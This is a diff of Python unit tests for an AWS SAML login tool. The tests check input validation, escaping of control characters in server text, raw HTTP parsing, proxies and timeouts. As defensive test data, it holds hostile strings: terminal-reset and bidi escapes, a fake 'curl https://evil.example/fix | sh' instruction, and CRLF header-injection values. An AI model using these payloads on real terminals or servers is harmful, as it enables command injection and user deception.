+        self.addCleanup(shutil.rmtree, home, True)
+        env = dict((k, v) for k, v in os.environ.items() if k not in CLEARED_ENV)
+        env.update(HOME=home, AWSCLI_LOGIN_ROOT=home, AWS_PROFILE="two\x0cthree")
+        for args in (["logout"], ["--profile", "a\u2028b", "login"]):
+            run = run_tool(args, env=env, terminal=False)
+            self.assertEqual(run.code, 2, run)
+            self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
+            self.assertIn("invalid profile name", run.stderr)
+            self.assertNotIn("Traceback", run.stderr)
+
+    def test_arns_and_regions_are_ascii(self):
+        digits = "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662"
+        for bad in ("arn:aws:iam::%s:role/Admin" % digits, "arn:aws:iam::123456789012:role/\u00e9",
+                    ADMIN + "\n"):
+            self.assertIsNone(aws_login._role_arn_match(bad), repr(bad))
+        self.assertIsNone(aws_login.parse_role_value(
+            ADMIN + ",arn:aws:iam::123456789012:saml-provider/\u00e9"))
+        self.assertEqual(aws_login.parse_role_value(ADMIN + "," + PROVIDER_A),
+                         aws_login.Role(ADMIN, PROVIDER_A))
+        self.assertRaises(aws_login.ConfigError, aws_login.check_region, "us-east-\u0661")
+        self.assertEqual(aws_login.check_region("us-east-1"), "us-east-1")
+
+    def test_external_ids_are_checked(self):
+        for bad in ("x", "has space", "semi;colon", "\u00e9t\u00e9", "a" * 1225, "new\nline"):
+            with self.assertRaises(aws_login.ConfigError, msg=repr(bad)):
+                aws_login.check_external_id(bad)
+        for good in ("ab", "id-123_x+=,.@:/", "a" * 1224):
+            self.assertEqual(aws_login.check_external_id(good), good)
+
+
+# ---------------------------------------------------------------------------
+# Terminal (prompts, menu, spinner)
+# ---------------------------------------------------------------------------
 
 class PromptsTest(LoginTestCase):
     def test_first_login_asks_username_password_and_factor(self):
@@ -2166,6 +2082,207 @@ class PromptsTest(LoginTestCase):
         self.assertEqual((run.code, run.stdout.strip()), (0, "aws_login.py " +
                                                           aws_login.__version__))
 
+    def test_odd_menu_and_factor_answers_are_asked_again(self):
+        self.configure(username="bob")
+        run = self.tool(["login"], [("Password: ", "bob-pass"), ("Factor: ", "yubikey"),
+                                    ("Factor: ", "push"), ("Selection: ", "\u00b2"),
+                                    ("Selection: ", "1")])
+        self.assert_logged_in(run, DEV)
+        self.assertIn("not one of auto", run.tty)
+
+    def test_success_line_shows_local_time(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        run = self.tool(["login"], terminal=False, env={"TZ": "JST-9"})
+        self.assert_logged_in(run)
+        expires = aws_login.parse_timestamp(self.credentials()["aws_login_expiration"])
+        local = (expires + datetime.timedelta(hours=9)).strftime("%Y-%m-%d %H:%M JST")
+        self.assertIn("expire at %s." % local, run.stderr)
+
+    def test_a_menu_number_past_the_last_is_asked_again(self):
+        self.configure(username="bob", factor="auto", password="bob-pass")
+        run = self.tool(["login"], [("Selection", "3"), ("Please enter a number from 0 to 2",
+                                                         "2")])
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(self.sts.requests[-1]["form"]["RoleArn"], READONLY)    # the last
+
+
+# Characters that must never reach a terminal or a log raw (C0, DEL, C1, line
+# and paragraph separators, bidi embeddings, overrides and isolates).
+RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
+
+
+# What a hostile server says: reset the terminal, then a line of its own.
+HOSTILE = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+           "\x9b2J\u2028\u202etxt.exe\u2066\t")
+
+
+# The same in an HTTP header (Latin-1, a folded line keeps its CR LF).
+HOSTILE_HEADER = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+                  "\x9b2J\x85\x7f\t(end)")
+
+
+# The same in XML, which cannot carry ESC or a bare CR: CSI, NEL and a newline.
+HOSTILE_XML = ("\x9b2J\x85\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
+               "\u2028\u202etxt.exe\u2066\t(end)")
+
+
+class ServerTextTest(LoginTestCase):
+    """Text from a server (IdP, STS) reaches the terminal and the logs with every
+    control character escaped, and an error stays one line."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+
+    def assert_inert_lines(self, text, starts=("aws_login: ",)):
+        self.assertTrue(text.endswith("\n"), ascii(text))
+        for line in text[:-1].split("\n"):
+            self.assertIsNone(RAW_CONTROL.search(line), ascii(text))
+            self.assertTrue(line.startswith(starts), ascii(text))
+
+    def assert_one_inert_error(self, run, code, hostile):
+        self.assertEqual(run.code, code, run)
+        self.assertEqual(run.stdout, "")
+        self.assertEqual(run.stderr.count("\n"), 1, ascii(run.stderr))
+        self.assert_inert_lines(run.stderr, ("aws_login: error: ",))
+        # rendered visibly, not dropped: the user sees what the server sent
+        self.assertIn(aws_login.visible(hostile), run.stderr)
+
+    def test_visible_escapes_exactly_the_control_characters(self):
+        escaped = "\x00\x09\x0a\x0d\x1b\x1f\x7f\x80\x85\x9b\x9f\u2028\u2029\u202a\u202e\u2066\u2069"
+        self.assertEqual(aws_login.visible(escaped),
+                         "\\x00\\t\\n\\r\\x1b\\x1f\\x7f\\x80\\x85\\x9b\\x9f\\u2028\\u2029"
+                         "\\u202a\\u202e\\u2066\\u2069")
+        kept = " !~\xa0\xe9\u2019\u2027\u202f\u2065\u206a\u4e2d"
+        self.assertEqual(aws_login.visible(kept), kept)
+        self.assertEqual(aws_login.visible(aws_login.IdPError("a\nb")), "a\\nb")
+
+    def test_idp_redirect_location_with_escapes(self):
+        self.idp.override = (302, {"Location": HOSTILE_HEADER}, b"")
+        run = self.tool(["login"], terminal=False)
+        # the folded line is unfolded (one space for CRLF SP, as RFC 9112 says)
+        self.assert_one_inert_error(run, 5, HOSTILE_HEADER.replace("\r\n ", " "))
+        self.assertIn("redirected to", run.stderr)
+
+    def test_soap_fault_string_with_escapes(self):
+        self.idp.override = soap_fault("Authentication failed" + HOSTILE_XML)
+        run = self.tool(["login"], terminal=False)
+        # exit 11: the stored password was refused and is not sent again without a person
+        self.assert_one_inert_error(run, 11, HOSTILE_XML)
+        self.assertIn("Authentication failed", run.stderr)
+
+    def test_sts_error_message_with_escapes(self):
+        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
+        run = self.tool(["login"], terminal=False)
+        self.assert_one_inert_error(run, 7, HOSTILE_XML)
+        self.assertIn("AccessDenied: Not authorized", run.stderr)
+
+    def test_debug_traceback_and_debug_lines_are_escaped(self):
+        self.sts.queue.append(sts_error("Throttling", "Slow down" + HOSTILE_XML))  # debug line
+        self.sts.queue.append(sts_error("AccessDenied", "Not authorized" + HOSTILE_XML))
+        run = self.tool(["--debug", "login"], terminal=False)
+        self.assertEqual(run.code, 7, run)
+        self.assertIn("aws_login: debug: STS: STS refused AssumeRoleWithSAML: Throttling: "
+                      "Slow down" + aws_login.visible(HOSTILE_XML), run.stderr)
+        self.assertIn("Traceback", run.stderr)
+        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
+        last = run.stderr.rstrip("\n").split("\n")
+        self.assertTrue(last[-1].startswith("aws_login: error: STS refused"), ascii(last[-1]))
+        self.assertRegex(last[-2], r"^(aws_login\.)?STSError: STS refused")
+
+    def test_debug_traceback_of_a_broken_status_line(self):
+        server = socket.socket()
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+        self.addCleanup(server.close)
+
+        def answer():
+            client = server.accept()[0]
+            client.recv(65536)
+            client.sendall(HOSTILE_HEADER.encode("latin-1") + b"\r\n\r\n")
+            client.close()
+        thread = threading.Thread(target=answer)
+        thread.daemon = True
+        thread.start()
+        self.configure(username="alice", factor="auto", password=PASSWORD,
+                       ecp_endpoint_url="http://127.0.0.1:%d/ecp" % server.getsockname()[1])
+        run = self.tool(["--debug", "login"], terminal=False)
+        self.assertEqual(run.code, 8, run)
+        # the exception it was raised from, with the server's line, escaped
+        self.assertIn("BadStatusLine: \\x1bc\\r", run.stderr)
+        self.assertIsNone(RAW_CONTROL.search(run.stderr.replace("\n", "")), ascii(run.stderr))
+
+    def test_warning_with_a_refused_keyring_password(self):
+        keyring = FakeKeyring(self.home)
+        self.configure(username="alice", factor="auto", password=None, enable_keyring="true")
+        keyring.set(aws_login.keyring_user(aws_login.Profile(
+            "default", {"ecp_endpoint_url": self.idp.url}), "alice"), "stale")
+        faults = [soap_fault("Bad password" + HOSTILE_XML)]
+        self.idp.override = lambda handler: (faults.pop() if faults and handler.headers.get(
+            "Authorization") else None)     # not the probe without a password
+        run = self.tool(["login"], [("Password: ", PASSWORD)], env=keyring.env())
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("aws_login: warning: the IdP refused the password stored in the "
+                      "keyring (the IdP refused the login: Bad password"
+                      + aws_login.visible(HOSTILE_XML), run.stderr)
+        self.assert_inert_lines(run.stderr, ("aws_login: ", "Logged in as"))
+
+    def test_whoami_prints_the_identity_escaped(self):
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        body = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
+                '<Arn>arn:aws:sts::%s:assumed-role/Admin/alice%s</Arn><UserId>AROA:x</UserId>'
+                '<Account>%s</Account></GetCallerIdentityResult></GetCallerIdentityResponse>'
+                % (NS_STS, ACCOUNT_A, _text(HOSTILE_XML), ACCOUNT_A))
+        self.sts.queue.append((200, {"Content-Type": "text/xml"}, body.encode("utf-8")))
+        run = self.tool(["whoami"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(run.stdout.count("\n"), 3, ascii(run.stdout))
+        self.assertIsNone(RAW_CONTROL.search(run.stdout.replace("\n", "")), ascii(run.stdout))
+        self.assertIn("alice" + aws_login.visible(HOSTILE_XML), run.stdout)
+
+    def test_warn_debug_and_terminal_lines_are_escaped(self):
+        saved, aws_login.sys.stderr = aws_login.sys.stderr, io.StringIO()
+        saved_debug, aws_login._debug_enabled = aws_login._debug_enabled, True
+        try:
+            aws_login.warn("a" + HOSTILE)
+            aws_login.debug("b" + HOSTILE)
+            out = aws_login.sys.stderr.getvalue()
+        finally:
+            aws_login.sys.stderr, aws_login._debug_enabled = saved, saved_debug
+        self.assertEqual(out, "aws_login: warning: a%s\naws_login: debug: b%s\n" % (
+            aws_login.visible(HOSTILE), aws_login.visible(HOSTILE)))
+        master, slave = os.openpty()
+        self.addCleanup(os.close, master)
+        self.addCleanup(os.close, slave)
+        terminal = aws_login.Terminal(os.ttyname(slave))
+        self.addCleanup(terminal.close)
+        self.assertTrue(terminal.available())
+        terminal.tell("c" + HOSTILE)
+        shown = b""
+        while not shown.endswith(b"\n"):
+            self.assertTrue(select.select([master], [], [], 10)[0], shown)
+            shown += os.read(master, 4096)
+        self.assertEqual(shown.decode("utf-8"), "c%s\r\n" % aws_login.visible(HOSTILE))
+
+    def test_refresher_log_lines_are_escaped(self):
+        log = os.path.join(self.home, "refresher.log")
+        aws_login.private_dir(os.path.join(self.home, ".aws-login"))
+        aws_login.private_dir(os.path.join(self.home, ".aws-login", "run"))
+        code = ("import os, sys; sys.path.insert(0, %r); import aws_login; "
+                "fd = os.open(aws_login.pid_path('default'), os.O_RDWR | os.O_CREAT, 0o600); "
+                "aws_login._refresher_loop('default', sys.argv[1], 0, 1e10, fd)" % HERE)
+        with open(log, "wb") as f:
+            subprocess.check_call([sys.executable, "-c", code, ADMIN + HOSTILE],
+                                  stderr=f, timeout=30)
+        text = self.read(log)
+        self.assertIn("started for role %s%s" % (ADMIN, aws_login.visible(HOSTILE)), text)
+        self.assertIn("was logged out; stopping", text)
+        self.assert_inert_lines(text, (time.strftime("%Y-"),))
+
+
+# ---------------------------------------------------------------------------
+# HTTP (TLS, cookies, timeouts)
+# ---------------------------------------------------------------------------
 
 class CookieJarTest(unittest.TestCase):
     """The IdP session's cookies: RFC 6265's rules an IdP needs, LWP files."""
@@ -2246,6 +2363,1653 @@ class CookieJarTest(unittest.TestCase):
         self.assertEqual(out.decode().strip(), "[]")
 
 
+class RawHttpTest(unittest.TestCase):
+    """http_request's own HTTP/1.1 reading, against canned answers on a socket."""
+
+    def serve(self, answer, requests=None):
+        server = socket.socket()
+        server.bind(("127.0.0.1", 0))
+        server.listen(4)
+        self.addCleanup(server.close)
+
+        def run():
+            try:
+                client = server.accept()[0]
+            except OSError:
+                return
+            data = b""
+            while b"\r\n\r\n" not in data:
+                chunk = client.recv(65536)
+                if not chunk:
+                    break
+                data += chunk
+            if requests is not None:
+                requests.append(data)
+            client.sendall(answer)
+            client.close()
+        thread = threading.Thread(target=run)
+        thread.daemon = True
+        thread.start()
+        return "http://127.0.0.1:%d/ecp?x=1" % server.getsockname()[1]
+
+    def test_framings(self):
+        body = b"<x>" + b"y" * 5000 + b"</x>"
+        chunked = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 1000]), body[i:i + 1000])
+                           for i in range(0, len(body), 1000)) + b"0\r\nTrailer: t\r\n\r\n"
+        for name, raw in (
+                ("length", b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body),
+                                                                                 body)),
+                ("chunked", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked),
+                ("to the end", b"HTTP/1.0 200 OK\r\nX-A: 1\r\n\r\n" + body),
+                ("interim first", b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n"
+                                  b"Content-Length: %d\r\n\r\n%s" % (len(body), body))):
+            answer = aws_login.http_request(self.serve(raw), b"data")
+            self.assertEqual((answer.status, answer.body), (200, body), name)
+
+    def test_the_request_as_sent(self):
+        requests = []
+        url = self.serve(b"HTTP/1.1 204 No Content\r\nSet-Cookie: a=1\r\nSet-Cookie: b=2\r\n"
+                         b"Content-Length: 0\r\n\r\n", requests)
+        jar = aws_login.CookieJar()
+        answer = aws_login.http_request(url, b"<body/>", {"Content-Type": "text/xml"},
+                                        cookie_jar=jar)
+        self.assertEqual(answer.status, 204)
+        self.assertEqual(answer.headers.get_all("set-cookie"), ["a=1", "b=2"])
+        self.assertEqual(jar.header_for(url), "a=1; b=2")
+        head, _, sent = requests[0].partition(b"\r\n\r\n")
+        lines = head.decode().split("\r\n")
+        self.assertEqual(lines[0], "POST /ecp?x=1 HTTP/1.1")
+        fields = dict(line.split(": ", 1) for line in lines[1:])
+        self.assertEqual(fields["Host"], url.split("/")[2])
+        self.assertEqual(fields["Content-Length"], "7")
+        self.assertEqual(fields["Content-Type"], "text/xml")
+
+    def test_broken_answers(self):
+        for name, raw, reason in (
+                ("no status", b"HTTX/1.1 200 OK\r\n\r\n", "BadStatusLine"),
+                ("short status", b"HTTP/1.1 20 OK\r\n\r\n", "BadStatusLine"),
+                ("nothing", b"", "RemoteDisconnected"),
+                ("long line", b"HTTP/1.1 200 OK\r\nX: " + b"a" * 70000 + b"\r\n\r\n",
+                 "LineTooLong"),
+                ("many headers", b"HTTP/1.1 200 OK\r\n" + b"X: 1\r\n" * 101 + b"\r\n",
+                 "TooManyHeaders"),
+                ("header without colon", b"HTTP/1.1 200 OK\r\nnonsense\r\n\r\n",
+                 "BadHeaderLine"),
+                ("bad length", b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\n",
+                 "BadContentLength"),
+                ("short body", b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc",
+                 "IncompleteRead"),
+                ("bad chunk", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
+                 "IncompleteRead")):
+            with self.assertRaises(aws_login.NetworkError, msg=name) as caught:
+                aws_login.http_request(self.serve(raw), b"x")
+            self.assertEqual(caught.exception.kind, "broken", name)
+            self.assertIn("(%s)" % reason, str(caught.exception), name)
+
+    def test_an_answer_over_the_limit_is_refused_whatever_its_framing(self):
+        big = b"a" * 3000
+        for raw in (b"HTTP/1.1 200 OK\r\nContent-Length: 3000\r\n\r\n" + big,
+                    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
+                    b"bb8\r\n" + big + b"\r\n0\r\n\r\n",
+                    b"HTTP/1.1 200 OK\r\n\r\n" + big):
+            with self.assertRaisesRegex(aws_login.IdPError, "over 1000 bytes"):
+                aws_login.http_request(self.serve(raw), b"x", max_bytes=1000)
+
+    def test_header_values_http_cannot_carry(self):
+        for headers in ({"X-Code": "1\r\nX-Evil: 1"}, {"X-Code": "1\n"}, {"Bad Name": "1"},
+                        {"X-Code": "\u0663"}):
+            with self.assertRaises(aws_login.ConfigError):
+                aws_login.http_request("http://127.0.0.1:9/", b"x", headers)
+
+    def test_a_proxy_that_refuses_the_tunnel(self):
+        url = self.serve(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
+        os.environ["HTTPS_PROXY"] = url.rsplit("/", 1)[0]
+        self.addCleanup(os.environ.pop, "HTTPS_PROXY")
+        with self.assertRaisesRegex(aws_login.NetworkError, "refused the tunnel \\(HTTP 403\\)"):
+            aws_login.http_request("https://idp.example.edu/ecp", b"x",
+                                   ssl_context=aws_login.make_ssl_context())
+
+
+class ConnectProxy(object):
+    """An HTTP CONNECT proxy on loopback that records what it tunnels."""
+
+    def __init__(self):
+        self.connects, self.seen = [], b""
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+
+    def start(self):
+        thread = threading.Thread(target=self._serve)
+        thread.daemon = True
+        thread.start()
+        return self
+
+    def stop(self):
+        self.sock.close()
+
+    def _serve(self):
+        while True:
+            try:
+                client, _ = self.sock.accept()
+            except OSError:
+                return
+            thread = threading.Thread(target=self._tunnel, args=(client,))
+            thread.daemon = True
+            thread.start()
+
+    def _tunnel(self, client):
+        head = b""
+        while b"\r\n\r\n" not in head:
+            chunk = client.recv(4096)
+            if not chunk:
+                return client.close()
+            head += chunk
+        target = head.split(b" ")[1].decode()
+        self.connects.append(target)
+        host, port = target.rsplit(":", 1)
+        if host != "127.0.0.1":
+            client.sendall(b"HTTP/1.1 403 Forbidden\r\n\r\n")
+            return client.close()
+        upstream = socket.create_connection((host, int(port)))
+        client.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
+        sockets = [client, upstream]
+        try:
+            while True:
+                ready = select.select(sockets, [], [], 10)[0]
+                if not ready:
+                    break
+                for s in ready:
+                    data = s.recv(65536)
+                    if not data:
+                        return
+                    self.seen += data
+                    (upstream if s is client else client).sendall(data)
+        except OSError:
+            pass
+        finally:
+            client.close()
+            upstream.close()
+
+
+class NetworkFaultTest(LoginTestCase):
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+
+    def idp_with(self, cert, key):
+        idp = FakeIdP(cert=cert, key=key).start()
+        self.addCleanup(idp.stop)
+        idp.users = self.idp.users
+        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
+                       password=PASSWORD)
+        return idp
+
+    def test_hostname_mismatch_and_expired_certificates(self):
+        for cert, key, detail in ((WRONG_HOST_CERT_PEM, WRONG_HOST_KEY_PEM, "(?i)hostname|match"),
+                                  (EXPIRED_CERT_PEM, EXPIRED_KEY_PEM, "(?i)expired|verify")):
+            idp = self.idp_with(cert, key)
+            run = self.tool(["login"], terminal=False)
+            self.assert_nothing_written(run, 8)
+            self.assertIn("not trusted", run.stderr)
+            self.assertRegex(run.stderr, detail)
+            self.assertEqual(idp.requests, [])
+
+    def test_dns_failure_is_explained(self):
+        error = aws_login._network_error(
+            socket.gaierror(-2, "Name or service not known"), "https://idp.example.edu/ecp")
+        self.assertEqual(str(error), "cannot resolve the host name of idp.example.edu: check "
+                                     "the URL and DNS")
+        self.assertEqual(error.kind, "dns")
+
+    def test_https_proxy_tunnels_and_no_proxy_bypasses(self):
+        proxy = ConnectProxy().start()
+        self.addCleanup(proxy.stop)
+        url = "http://127.0.0.1:%d" % proxy.port
+        run = self.tool(["login"], terminal=False, env={"HTTPS_PROXY": url, "https_proxy": url})
+        self.assert_logged_in(run)
+        self.assertEqual(sorted(set(proxy.connects)),
+                         sorted({self.idp.host_port, self.sts.host_port}))
+        self.assertNotIn(PASSWORD.encode(), proxy.seen)     # TLS end to end
+        proxy.connects[:] = []
+        self.tool(["logout"], terminal=False)
+        run = self.tool(["login"], terminal=False, env={
+            "HTTPS_PROXY": url, "https_proxy": url, "NO_PROXY": "127.0.0.1",
+            "no_proxy": "127.0.0.1"})
+        self.assert_logged_in(run)
+        self.assertEqual(proxy.connects, [])
+
+    def test_plain_http_never_goes_through_a_proxy(self):
+        seen = []
+        proxy = socket.socket()
+        proxy.bind(("127.0.0.1", 0))
+        proxy.listen(5)
+        proxy.settimeout(0.2)
+        self.addCleanup(proxy.close)
+
+        def record():
+            while True:
+                try:
+                    conn, _ = proxy.accept()
+                except socket.timeout:
+                    continue
+                except OSError:
+                    return
+                seen.append(conn.recv(65536))
+                conn.close()
+        thread = threading.Thread(target=record)
+        thread.daemon = True
+        thread.start()
+        idp = FakeIdP(tls=False).start()
+        self.addCleanup(idp.stop)
+        idp.users = self.idp.users
+        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
+                       password=PASSWORD)
+        url = "http://127.0.0.1:%d" % proxy.getsockname()[1]
+        self.assert_logged_in(self.tool(["login"], terminal=False, env={
+            "http_proxy": url, "HTTP_PROXY": url, "no_proxy": "", "NO_PROXY": ""}))
+        self.assertEqual(seen, [])
+
+
+class TrickleServer(object):
+    """Accepts connections and sends an HTTP status line one byte at a time,
+    every ``interval`` seconds, for at most ``limit`` seconds: a server that
+    never finishes an answer but never lets a read time out."""
+
+    def __init__(self, tls=False, interval=0.2, limit=25):
+        self.tls, self.interval, self.limit = tls, interval, limit
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(8)
+        self.port = self.sock.getsockname()[1]
+        self.stopping = threading.Event()
+        self.connections = 0
+        thread = threading.Thread(target=self._serve)
+        thread.daemon = True
+        thread.start()
+
+    @property
+    def url(self):
+        return "%s://127.0.0.1:%d/ecp" % ("https" if self.tls else "http", self.port)
+
+    def _serve(self):
+        while not self.stopping.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            t = threading.Thread(target=self._trickle, args=(conn,))
+            t.daemon = True
+            t.start()
+
+    def _trickle(self, conn):
+        try:
+            if self.tls:
+                conn.settimeout(10)
+                conn = server_context().wrap_socket(conn, server_side=True)
+            conn.settimeout(1)
+            started = time.time()
+            for byte in b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 10000:
+                if self.stopping.wait(self.interval) or time.time() - started > self.limit:
+                    break
+                conn.sendall(bytes([byte]))
+        except (OSError, ssl.SSLError):
+            pass
+        finally:
+            conn.close()
+
+    def stop(self):
+        self.stopping.set()
+        self.sock.close()
+
+
+class DeadlineTest(LoginTestCase):
+    """A server that sends a byte now and then must not hold us past a deadline."""
+    SLOW = True         # waits on real time: the runner starts it first
+
+    def trickle(self, **kw):
+        server = TrickleServer(**kw)
+        self.addCleanup(server.stop)
+        return server
+
+    def test_a_trickling_answer_ends_at_the_request_deadline(self):
+        for tls in (False, True):
+            server = self.trickle(tls=tls)
+            context = aws_login.make_ssl_context() if tls else None
+            started = time.monotonic()
+            with self.assertRaises(aws_login.NetworkError) as caught:
+                # Each byte comes well within the read timeout; only the total can end it.
+                aws_login.http_request(server.url, b"x", ssl_context=context,
+                                       connect_timeout=1, read_timeout=1.5)
+            elapsed = time.monotonic() - started
+            self.assertEqual(caught.exception.kind, "timeout", caught.exception)
+            self.assertIn("timed out", str(caught.exception))
+            self.assertGreater(elapsed, 2)      # the 2.5 s total, not a read timeout
+            self.assertLess(elapsed, 12, tls)
+
+    def test_an_explicit_deadline_shortens_the_request(self):
+        server = self.trickle()
+        started = time.monotonic()
+        with self.assertRaises(aws_login.NetworkError) as caught:
+            aws_login.http_request(server.url, b"x", deadline=time.monotonic() + 1)
+        self.assertEqual(caught.exception.kind, "timeout")
+        self.assertLess(time.monotonic() - started, 10)
+        with self.assertRaises(aws_login.NetworkError) as caught:   # no time left at all
+            aws_login.http_request(server.url, b"x", deadline=time.monotonic() - 1)
+        self.assertEqual(caught.exception.kind, "timeout")
+
+    def test_credential_process_renewal_has_its_own_time_limit(self):
+        # The cached path's renewal holds the renewal lock that every `aws`
+        # call of the profile waits for: it must end by RENEWAL_TIME_LIMIT.
+        server = self.trickle(tls=True)
+        self.configure(ecp_endpoint_url=server.url, username="alice", factor="auto",
+                       password=PASSWORD)
+        saved = aws_login.RENEWAL_TIME_LIMIT
+        aws_login.RENEWAL_TIME_LIMIT = 1.5
+        self.addCleanup(setattr, aws_login, "RENEWAL_TIME_LIMIT", saved)
+        started = time.monotonic()
+        with self.assertRaises(aws_login.AwsLoginError) as caught:
+            aws_login._renew_for_process("default", None)
+        self.assertIn("in time", str(caught.exception))
+        self.assertLess(time.monotonic() - started, 12)
+        self.assertEqual(server.connections, 1)
+
+    def test_a_login_deadline_covers_every_request(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        server = self.trickle(tls=True)
+        os.environ["AWS_ENDPOINT_URL_STS"] = server.url    # the IdP answers; STS trickles
+        profile = aws_login.read_profile("default")
+        started = time.monotonic()
+        with self.assertRaises(aws_login.NetworkError) as caught:
+            aws_login.login(profile, aws_login.Terminal(None), interactive=False,
+                            deadline=time.monotonic() + 2)
+        self.assertEqual(caught.exception.kind, "timeout")
+        self.assertLess(time.monotonic() - started, 12)
+        self.assertEqual(len(self.idp.requests), 1)
+        self.assertFalse(os.path.exists(self.credentials_file))
+
+
+@unittest.skipUnless(shutil.which("openssl"), "needs the openssl command to name hashed files")
+class SystemRootsTest(LoginTestCase):
+    """The system's CAs from a hashed folder (read lazily) when the bundle lies in
+    it; both when the bundle is elsewhere."""
+
+    def hashed_folder(self, with_ca=True):
+        folder = os.path.join(self.home, "certs")
+        os.mkdir(folder)
+        name = subprocess.check_output(["openssl", "x509", "-hash", "-noout", "-in",
+                                        self.pems["ca"]]).decode().strip()
+        if with_ca:
+            shutil.copy(self.pems["ca"], os.path.join(folder, name + ".0"))
+        else:
+            self.write(os.path.join(folder, "0123abcd.0"), "not a certificate\n")
+        return folder
+
+    def login(self, **env):
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        os.environ.pop("AWS_CA_BUNDLE", None)
+        return self.tool(["login", "--force"], terminal=False, env=env)
+
+    def test_the_hashed_folder_alone_when_the_bundle_lies_in_it(self):
+        folder = self.hashed_folder()
+        bundle = os.path.join(folder, "ca-certificates.crt")
+        self.write(bundle, "")          # the folder's own bundle, empty: trust comes lazily
+        os.environ.update(SSL_CERT_DIR=folder, SSL_CERT_FILE=bundle)
+        import ssl
+        self.assertEqual(aws_login._system_roots(ssl), (os.path.realpath(bundle),
+                                                        os.path.realpath(folder)))
+        self.assert_logged_in(self.login())
+
+    def test_a_bundle_elsewhere_is_read_too(self):
+        folder = self.hashed_folder(with_ca=False)
+        os.environ.update(SSL_CERT_DIR=folder, SSL_CERT_FILE=self.pems["ca"])
+        import ssl
+        self.assertEqual(aws_login._system_roots(ssl), (os.path.realpath(self.pems["ca"]),
+                                                        None))
+        self.assert_logged_in(self.login())
+        os.environ["SSL_CERT_FILE"] = os.path.join(folder, "none.crt")   # nor here: refused
+        run = self.login()
+        self.assertEqual(run.code, 8, run)
+        self.assertIn("not trusted", run.stderr)
+
+    def test_ca_bundle_is_added_to_the_system_roots_not_instead(self):
+        # The IdP's certificate is trusted only by the "system" roots (SSL_CERT_FILE),
+        # STS's only by the profile's ca_bundle: both must verify.
+        idp = FakeIdP(cert=UNTRUSTED_CERT_PEM, key=UNTRUSTED_KEY_PEM).start()
+        self.addCleanup(idp.stop)
+        idp.users = self.idp.users
+        del os.environ["AWS_CA_BUNDLE"]
+        empty = os.path.join(self.home, "no-certs")
+        os.mkdir(empty)
+        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
+                       password=PASSWORD, ca_bundle=self.pems["ca"])
+        run = self.tool(["login"], terminal=False, env={
+            "SSL_CERT_FILE": self.pems["untrusted_cert"], "SSL_CERT_DIR": empty})
+        self.assert_logged_in(run)
+
+
+class PasscodeHeaderTest(LoginTestCase):
+    def test_a_passcode_with_a_line_break_is_refused_without_being_shown(self):
+        # configparser reads an indented next line as the value's continuation.
+        self.configure(username="alice", factor="passcode", password=PASSWORD)
+        text = self.read(self.config_file)
+        self.write(self.config_file, text + "passcode = 246810\n  SECRET-HEADER: x\n")
+        run = self.tool(["login"], terminal=False)
+        self.assert_nothing_written(run, 3)
+        self.assertIn("passcode", run.stderr)
+        for secret in ("246810", "SECRET"):
+            self.assertNotIn(secret, run.stderr)
+        self.assertEqual(self.idp.requests, [])
+
+    def test_a_bad_passcode_from_the_api_or_prompt_never_reaches_http(self):
+        self.configure(username="alice", factor="passcode", password=PASSWORD)
+        for bad in ("246810\r\nX-Evil: 1", "24 68", "\u0662\u0664\u0666", "1\x00"):
+            with self.assertRaises(aws_login.ConfigError) as caught:
+                aws_login.get_credentials(passcode=bad)
+            self.assertNotIn(bad.strip(), str(caught.exception))
+        self.assertEqual(self.idp.requests, [])
+        run = self.tool(["login"], [("Code: ", "1234 5678")])
+        self.assertEqual(run.code, 3, run)
+        self.assertNotIn("1234", run.stderr + run.tty.replace("Code: ", ""))
+        for request in self.idp.requests:       # only the probe before the prompt went out
+            self.assertEqual(request["authorization"], None)
+            self.assertNotIn("X-Shibboleth-Duo-Passcode", request["headers"])
+
+    def test_a_header_value_http_refuses_is_a_configuration_error_not_shown(self):
+        server = TrickleServer()
